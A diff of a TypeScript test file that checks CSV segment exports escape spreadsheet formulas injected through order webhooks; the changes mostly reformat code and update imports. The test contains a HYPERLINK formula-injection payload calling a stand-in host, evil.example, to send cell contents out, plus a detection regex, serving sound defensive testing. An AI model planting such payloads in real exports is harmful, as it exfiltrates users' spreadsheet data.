@@ -1,8 +1,14 @@
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, test } from "vitest";
-import { dayFromIsoDate } from "../../app/profiles/days";
-import { runFullPass } from "../../app/profiles/full-pass.server";
-import { adminRequest, appUnderTest, installTestShop, webhookRequest, type AppUnderTest } from "../support/app-under-test";
+import { dayFromIsoDate } from "~/profiles/days";
+import { runFullPass } from "~/recompute/full-pass.server";
+import {
+  adminRequest,
+  appUnderTest,
+  installTestShop,
+  webhookRequest,
+  type AppUnderTest,
+} from "../support/app-under-test";
 import { cadenceCli } from "../support/cadence-cli";
 import { orderObject } from "../support/webhook-payloads";
 
@@ -23,7 +29,13 @@ const PRODUCT_TYPES: Record<string, string> = {
 let app: AppUnderTest;
 let shopId: string;
 
-function orderWithProductType(id: string, customerId: string, productType: string, subtotal: string, createdAt: string): string {
+function orderWithProductType(
+  id: string,
+  customerId: string,
+  productType: string,
+  subtotal: string,
+  createdAt: string
+): string {
   const order = orderObject({ id, customerId, subtotal, createdAt });
   for (const line of order.line_items as Array<Record<string, unknown>>) line.product_type = productType;
   return JSON.stringify(order);
@@ -40,7 +52,8 @@ function expectNeutralised(rows: Array<Record<string, string>>, raw: string) {
   // The bytes a spreadsheet reads: the formula is inside a quoted cell that begins with an apostrophe.
   expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
   for (const row of rows) {
-    for (const [column, cell] of Object.entries(row)) expect(cell, `${row.customer_id} ${column}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    for (const [column, cell] of Object.entries(row))
+      expect(cell, `${row.customer_id} ${column}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
   }
 }
 
@@ -49,7 +62,10 @@ beforeAll(async () => {
   shopId = await installTestShop(app, SHOP, "USD");
   let orderId = 9400000001;
   for (const [customer, productType] of Object.entries(PRODUCT_TYPES)) {
-    for (const [subtotal, createdAt] of [["25.00", "2026-01-05T10:00:00Z"], ["40.50", "2026-02-20T10:00:00Z"]] as const) {
+    for (const [subtotal, createdAt] of [
+      ["25.00", "2026-01-05T10:00:00Z"],
+      ["40.50", "2026-02-20T10:00:00Z"],
+    ] as const) {
       const body = orderWithProductType(String(orderId++), customer, productType, subtotal, createdAt);
       expect((await app.handle(webhookRequest({ shop: SHOP, topic: "orders/create", body }))).status).toBe(200);
     }
@@ -59,7 +75,9 @@ beforeAll(async () => {
 
 describe("CSV exports neutralise spreadsheet formulas from webhooks", () => {
   test("the admin's segment export", async () => {
-    const profile = await app.prisma.customerProfile.findFirstOrThrow({ where: { shopId, customerShopifyId: "7400000001" } });
+    const profile = await app.prisma.customerProfile.findFirstOrThrow({
+      where: { shopId, customerShopifyId: "7400000001" },
+    });
     expect(profile.topProductTypes).toEqual([HYPERLINK]);
     const response = await app.handle(await adminRequest(`/app/segment-export/lifecycle%3A${profile.lifecycle}`, SHOP));
     expect(response.status).toBe(200);
